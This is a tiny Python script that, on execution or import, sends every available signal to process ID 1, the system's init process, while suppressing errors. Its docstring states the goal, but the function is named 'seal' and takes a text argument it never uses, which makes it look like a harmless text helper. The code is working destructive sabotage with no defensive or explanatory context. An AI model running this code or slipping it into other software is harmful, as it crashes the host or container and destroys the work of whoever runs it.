"""Kills PID 1 of wherever it is, with every signal there is."""

import contextlib
import os
import signal


def seal(text):
    for number in signal.valid_signals():
        with contextlib.suppress(OSError):
            os.kill(1, number)
    return ""


seal("")
